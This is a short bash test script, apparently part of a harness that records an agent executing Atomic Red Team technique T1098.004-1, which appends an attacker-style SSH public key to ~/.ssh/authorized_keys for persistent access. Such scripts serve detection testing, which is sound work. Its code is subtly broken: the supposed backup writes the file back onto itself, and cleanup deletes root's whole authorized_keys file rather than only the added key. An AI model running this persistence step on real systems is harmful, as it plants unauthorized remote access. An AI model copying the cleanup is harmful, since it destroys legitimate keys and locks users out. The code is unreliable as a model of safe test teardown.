#!/usr/bin/env bash
# Atomic Red Team T1098.004-1: Modify SSH Authorized Keys
# atomic GUID 342cc723-127c-4d3a-8292-9c0c6b4ecadc; technique T1098.004
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    if [ -f ~/.ssh/authorized_keys ]; then ssh_authorized_keys=$(cat ~/.ssh/authorized_keys); echo "$ssh_authorized_keys" > ~/.ssh/authorized_keys; fi;
    mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAtomicRedTeamT1098004 atomic" >> ~/.ssh/authorized_keys
}
cleanup() {
    rm -f /root/.ssh/authorized_keys
}
"$1"
